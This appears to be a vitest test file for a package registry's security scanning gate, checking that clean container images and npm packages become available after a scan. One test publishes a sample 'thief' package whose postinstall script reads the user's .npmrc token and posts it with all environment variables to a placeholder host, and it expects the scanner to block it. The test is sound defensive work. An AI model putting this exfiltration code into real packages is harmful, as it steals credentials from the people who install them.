import { afterAll, beforeAll, expect, test } from 'vitest'
import { packTarball, publishDocument } from '../support/npm-package.ts'
import { umociLayout } from '../support/oci-image.ts'
import { credentials, type OciRegistry, openOciRegistry, pusher, stranger } from '../support/oci-registry.ts'

let oci: OciRegistry
let path: string
const authorization = `Basic ${Buffer.from(credentials(pusher)).toString('base64')}`
const patiently = { timeout: 30_000, interval: 100 }

beforeAll(async () => {
  oci = await openOciRegistry({ env: { REGISTRY_SCANNING_GATE: 'hold' } })
  path = (await umociLayout(oci, 'scanned')).path
})
afterAll(() => oci?.[Symbol.asyncDispose]())

const resolves = async (image: string): Promise<boolean> => {
  const reading = ['--tls-verify=false', '--creds', credentials(stranger)]
  const { code } = await oci.attempt(['skopeo', 'inspect', '--raw', ...reading, `docker://${oci.host}/${image}`])
  return code === 0
}

async function publish(name: string, files: Readonly<Record<string, string>>, more: object = {}): Promise<Response> {
  const manifest = { name: `@acme/${name}`, version: '1.0.0', ...more }
  return fetch(`${oci.registry.url}/npm/@acme%2f${name}`, {
    method: 'PUT',
    headers: { authorization, 'content-type': 'application/json' },
    body: JSON.stringify(publishDocument(manifest, await packTarball(manifest, files))),
  })
}
const tarball = (name: string) => fetch(`${oci.registry.url}/npm/@acme/${name}/-/${name}-1.0.0.tgz`)

test('decision 4: under scanning.gate hold the tag of a push resolves after a clean scan', async () => {
  const pushing = ['--dest-tls-verify=false', '--dest-creds', credentials(pusher)]
  await oci.run(['skopeo', 'copy', '--all', ...pushing, `oci:${path}:multi`, `docker://${oci.host}/acme/clean:1`])
  await expect.poll(() => resolves('acme/clean:1'), patiently).toBe(true)
  expect(await oci.api('/v1/artifacts/acme/clean/1/scan', { as: pusher })).toMatchObject({ status: 'completed', riskLevel: 'low' })
})

test('decision 4: clients of npm are told that a version waits, and find it after a clean scan', async () => {
  const published = await publish('polite', { 'index.js': 'module.exports = 1\n' })
  expect(published.ok).toBe(true)
  expect(published.headers.get('npm-notice')).toContain('scan')
  await expect.poll(async () => (await tarball('polite')).status, patiently).toBe(200)
})

test('R5.4, R14.2: what steals never gets its name, and its publisher reads why', async () => {
  const thief = [
    "const os = require('os'), https = require('https'), fs = require('fs')",
    "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')",
    "const request = https.request({ host: 'collector.example.invalid', method: 'POST', path: '/' })",
    'request.end(JSON.stringify({ token, env: process.env }))',
  ].join('\n')
  const published = await publish('thief', { 'steal.js': thief }, { scripts: { postinstall: 'node steal.js' } })
  expect(published.ok).toBe(true)
  const report = async () =>
    oci.api('/v1/artifacts/acme/thief/1.0.0/scan?format=npm', { as: pusher }).catch(() => undefined) as Promise<
      { status: string; securityScore: number; riskLevel: string } | undefined
    >
  await expect.poll(async () => (await report())?.status, patiently).toBe('completed')
  expect(await report()).toMatchObject({ securityScore: 0, riskLevel: 'critical' })
  expect((await tarball('thief')).ok).toBe(false)
  const feed = async () => JSON.stringify(await oci.api('/v1/me/feed', { as: pusher }))
  await expect.poll(feed, patiently).toContain('scanning.malicious_content_found')
})
